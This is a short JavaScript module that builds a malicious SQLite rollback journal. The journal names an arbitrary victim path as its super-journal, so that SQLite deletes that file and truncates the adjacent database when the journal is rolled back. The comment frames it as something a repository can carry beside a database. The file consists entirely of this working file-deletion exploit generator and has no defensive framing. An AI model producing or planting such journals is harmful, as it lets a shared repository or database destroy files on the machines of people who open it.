// A rollback journal by which SQLite deletes any file, as a repository may bring it beside a database.

const MAGIC = Buffer.from("d9d505f920a163d7", "hex");
const SECTOR = 512;
const PAGE = 4096;

/**
 * A journal of no pages that names a file as its super-journal (https://www.sqlite.org/fileformat.html, 3): once it is
 * rolled back, SQLite deletes that file.
 * @param {string} victim
 * @param {number} pages of the database beside it, which is cut to so many
 */
export function journalThatDeletes(victim, pages = 1) {
  const name = Buffer.from(victim);
  const sum = name.reduce((total, byte) => total + ((byte << 24) >> 24), 0);
  const pageOfLocks = 0x4000_0000 / PAGE + 1;
  // No records, a nonce.
  const header = Buffer.concat([MAGIC, numbers(0, 1, pages, SECTOR, PAGE)], SECTOR);
  return Buffer.concat([header, numbers(pageOfLocks), name, numbers(name.length, sum), MAGIC]);
}

/** @param {number[]} values */
function numbers(...values) {
  const bytes = Buffer.alloc(4 * values.length);
  for (const [index, value] of values.entries()) bytes.writeUInt32BE(value >>> 0, 4 * index);
  return bytes;
}
